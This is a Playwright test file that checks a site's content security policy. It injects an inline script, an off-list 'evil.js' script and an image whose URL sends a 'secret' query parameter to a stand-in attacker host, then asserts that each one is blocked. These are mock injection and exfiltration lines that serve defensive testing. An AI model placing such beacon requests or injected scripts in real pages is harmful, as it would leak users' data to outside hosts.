/** Tests the content security policy. */
import { expect } from '@playwright/test'
import { test } from '../support/e2e/test.ts'

test('[X-6] a script and a picture that are injected into a page are stopped', async ({ page, shared }) => {
  await page.goto(shared.origin)
  const refused = await page.evaluate(() => {
    const inline = document.createElement('script')
    try {
      inline.textContent = 'document.title = "taken over"'
      document.body.append(inline)
    } catch (error) {
      return String(error)
    }
    return 'taken'
  })
  expect(refused).toContain('TrustedScript')
  const stopped = await page.evaluate(async () => {
    const directives = new Set<string>()
    const both = new Promise<void>((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        directives.add(effectiveDirective)
        if (directives.size === 2) resolve()
      })
    })
    const script = document.createElement('script')
    script.src = 'https://js.stripe.com/evil.js' // trusted by name, and still nothing that this page may load
    const picture = new Image()
    picture.src = 'https://evil.example/picture.png?secret=1'
    document.body.append(script, picture)
    await both
    return [...directives].sort()
  })
  expect(stopped).toEqual(['img-src', 'script-src-elem'])
  expect(await page.title()).not.toBe('taken over')
})
